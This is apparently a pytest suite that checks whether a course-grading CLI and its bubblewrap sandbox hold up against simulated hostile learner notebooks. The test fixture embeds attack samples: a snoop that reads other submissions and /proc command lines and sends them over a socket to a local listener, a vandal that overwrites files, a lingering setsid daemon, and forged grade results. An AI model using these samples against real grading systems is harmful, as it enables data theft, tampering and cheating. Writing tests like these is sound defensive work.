"""A hostile class graded by the real CLI in both modes: the course's notebook (default) and the
learners' own notebooks in the bubblewrap sandbox (``--execute-submitted-notebooks``).

The learners: an honest one (alice, whose files hold a secret), two forgers (an invented check worth
1000/1000, and a made-up 15/15 over wrong manifests), a snoop (reads other submissions, the
grader's command line, the network), a vandal (writes another learner's result and submission,
the gradebook, the class folder) and one that leaves a ``setsid`` daemon behind. Asserted: forged
results are error rows (or never read), nothing is written outside the output folder, alice's
result is hers, the secret leaks nowhere, no connection is made, no process is left.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from batch_fixtures import REPO, RESULT_MIME, oracle, read_gradebook_json, solution_dir, wrong_attempts

NOTEBOOK = sorted((REPO / "labs").glob("lab01-*.ipynb"))[0]
LAB = "lab01"
SECRET = "SECRET-OF-ALICE-4711"
DAEMON_MARK = "987654"
pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap (make system-deps)")


def _notebook(*cells: str) -> str:
    """The lab notebook with learner cells appended after its last cell."""
    nb = nbformat.read(NOTEBOOK, as_version=4)
    nb.cells.extend(nbformat.v4.new_code_cell(src) for src in cells)
    return nbformat.writes(nb)


def _display(payload: dict) -> str:
    return ("import json\nfrom IPython.display import display\n"
            f"display({{{RESULT_MIME!r}: json.loads({json.dumps(payload)!r}), 'text/plain': 'PASS'}}, raw=True)\n")


def _all_passed() -> dict:
    """A result with the lab's real check ids, titles and points, every one passed."""
    from graders.labs import get

    checks = [{"id": c.id, "title": c.title, "points": c.points, "passed": True, "status": "passed",
               "message": "ok", "hint": None} for c in get(LAB).checks]
    total = sum(c["points"] for c in checks)
    return {"lab": LAB, "mode": "manifests", "score": total, "max_score": total, "checks": checks}


def _build(root: Path, port: int) -> Path:
    subs = root / "subs"
    invented = {"lab": LAB, "mode": "manifests", "score": 1000, "max_score": 1000,
                "checks": [{"id": "pwned", "title": "Pwned", "points": 1000, "passed": True, "status": "passed",
                            "message": "", "hint": None}]}
    alice_results = root / "out" / "results" / "alice.json"
    snoop = f"""
found = []
import os, glob, socket
for path in [{str(subs / 'alice' / 'manifests')!r}, {str(subs)!r}, {str(root / 'out')!r}]:
    try:
        found.append(str(os.listdir(path)))
        found += [open(f).read() for f in glob.glob(path + '/*.yaml')]
    except OSError as err:
        found.append('denied ' + type(err).__name__)
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            found.append(open(f'/proc/{{pid}}/cmdline').read())
        except OSError:
            pass
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen ' + str(found).encode())
    found.append('CONNECTED')
except OSError as err:
    found.append('no network ' + type(err).__name__)
print(found)
"""
    vandal = f"""
import os
for path, text in [({str(alice_results)!r}, '{{"score": 1000}}'),
                   ({str(subs / 'alice' / 'manifests' / 'gateway.yaml')!r}, 'kind: Nothing'),
                   ({str(root / 'out' / 'gradebook.csv')!r}, 'pwned'),
                   ({str(root / 'PWNED')!r}, 'pwned'), ('/usr/PWNED', 'x'), ({str(REPO / 'PWNED')!r}, 'x')]:
    try:
        open(path, 'w').write(text)
        print('WROTE', path)
    except OSError as err:
        print('refused', type(err).__name__)
"""
    daemon = f"""
import os, subprocess, sys
subprocess.Popen(['sleep', '{DAEMON_MARK}'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '{DAEMON_MARK}1'])
    os._exit(0)
"""
    learners = {
        "alice": (solution_dir(), _notebook()),
        "forger-invented": (wrong_attempts()[0], _notebook(_display(invented))),
        "forger-15": (wrong_attempts()[0], _notebook(_display(_all_passed()))),
        "snoop": (wrong_attempts()[1], _notebook(snoop)),
        "vandal": (solution_dir(), _notebook(vandal)),
        "daemon": (wrong_attempts()[2], _notebook(daemon)),
    }
    for learner, (manifests, nb_text) in learners.items():
        f = subs / learner
        shutil.copytree(manifests, f / "manifests")
        (f / NOTEBOOK.name).write_text(nb_text)
    (subs / "alice" / "manifests" / "notes.yaml").write_text(f"# {SECRET}\n")
    return subs


def _tree(root: Path, skip: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
            for p in sorted(root.rglob("*")) if skip not in (p, *p.parents)}


def _leftovers() -> list[str]:
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        line = " ".join(proc.info["cmdline"] or [])
        if DAEMON_MARK in line or "graders.batch.sandbox" in line:
            found.append(line)
    return found


@pytest.fixture(scope="module", params=["course-notebook", "execute-submitted"])
def hostile(request, tmp_path_factory):
    root = tmp_path_factory.mktemp(request.param)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    heard: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            heard.append(conn.recv(1 << 16) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    subs = _build(root, listener.getsockname()[1])
    before = _tree(root, root / "out")
    extra = ["--execute-submitted-notebooks"] if request.param == "execute-submitted" else []
    proc = subprocess.run([sys.executable, "-m", "graders", "grade", "--lab", LAB, str(subs), "--out",
                           str(root / "out"), "--workers", "2", "--timeout", "60", *extra],
                          cwd=REPO, capture_output=True, text=True, timeout=600)
    time.sleep(0.5)
    stop.set()
    thread.join(2)
    listener.close()
    yield {"mode": request.param, "root": root, "subs": subs, "out": root / "out", "proc": proc, "before": before,
           "heard": heard, "rows": read_gradebook_json(root / "out")}


def test_forged_results_never_count(hostile):
    rows, mode = hostile["rows"], hostile["mode"]
    assert "Traceback" not in hostile["proc"].stderr, hostile["proc"].stderr[-2000:]
    wrong = oracle(LAB, NOTEBOOK, manifests=wrong_attempts()[0])
    for learner in ("forger-invented", "forger-15"):
        row = rows[learner]
        if mode == "execute-submitted":
            assert row["status"] == "error" and row["score"] is None, row
        else:  # the learner's notebook is never run: graded on the files
            assert (row["status"], row["score"]) == ("graded", wrong["score"]), row
    if mode == "execute-submitted":
        assert "'pwned' is not a check of this lab" in rows["forger-invented"]["reason"]
        assert f"claims 15/15, the files score {wrong['score']}/15" in rows["forger-15"]["reason"]
    stored = json.loads((hostile["out"] / "results" / "forger-15.json").read_text())
    assert stored["score"] != 15


def test_every_other_row_is_the_course_grading_of_the_learners_files(hostile):
    rows = hostile["rows"]
    expected = {"alice": solution_dir(), "snoop": wrong_attempts()[1], "vandal": solution_dir(),
                "daemon": wrong_attempts()[2]}
    for learner, manifests in expected.items():
        want = oracle(LAB, NOTEBOOK, manifests=manifests)
        assert (rows[learner]["status"], rows[learner]["score"], rows[learner]["max_score"]) == (
            "graded", want["score"], want["max_score"]), (learner, rows[learner]["reason"])
    alice = json.loads((hostile["out"] / "results" / "alice.json").read_text())
    assert alice["score"] == alice["max_score"] == 15
    assert hostile["proc"].returncode == (1 if hostile["mode"] == "execute-submitted" else 0)


def test_nothing_written_outside_the_output_folder(hostile):
    root = hostile["root"]
    assert _tree(root, hostile["out"]) == hostile["before"]  # class folder untouched, no new files next to it
    assert not (REPO / "PWNED").exists() and not Path("/usr/PWNED").exists()
    assert (hostile["out"] / "gradebook.csv").read_text().startswith("learner,")
    assert not (hostile["out"] / ".work").exists()


def test_no_secret_leaks_and_no_network(hostile):
    for f in hostile["out"].rglob("*"):
        if f.is_file():
            assert SECRET not in f.read_text(errors="replace"), f
    assert hostile["heard"] == []
    if hostile["mode"] == "execute-submitted":
        said = _outputs(hostile["out"] / "executed" / "snoop.ipynb")
        assert "denied FileNotFoundError" in said and "no network" in said and "CONNECTED" not in said
        assert str(hostile["subs"]) not in said  # not even the class folder's name, from any /proc/*/cmdline
        vandal = _outputs(hostile["out"] / "executed" / "vandal.ipynb")
        assert "WROTE" not in vandal and "refused" in vandal


def _outputs(path: Path) -> str:
    return json.dumps([c.get("outputs") for c in json.loads(path.read_text())["cells"]])


def test_no_process_left_behind(hostile):
    assert _leftovers() == []


def test_sandbox_binds_a_repository_under_tmp_read_only_and_keeps_tmp_read_only():
    """A CI clone may live under /tmp: its folders must be bound read-only inside the sandbox, and no
    writable tmpfs may sit at /tmp (where it would hide them, or make their parent folders writable)."""
    from graders.batch import sandbox

    args = sandbox.command("/usr/bin/bwrap", Path("/tmp/ci-clone"), "lab01", Path("/tmp/x/copy"), {})
    tmpfs = [args[i + 1] for i, a in enumerate(args) if a == "--tmpfs"]
    assert tmpfs == [sandbox.SCRATCH] and not sandbox.SCRATCH.startswith("/tmp")
    binds = [(args[i], args[i + 1]) for i, a in enumerate(args) if a in ("--bind", "--ro-bind")]
    writable = [src for kind, src in binds if kind == "--bind"]
    assert writable == ["/tmp/x/copy"]  # the learner's copy, at /submission
    env = {args[i + 1]: args[i + 2] for i, a in enumerate(args) if a == "--setenv"}
    assert env["TMPDIR"] == env["HOME"] == sandbox.SCRATCH
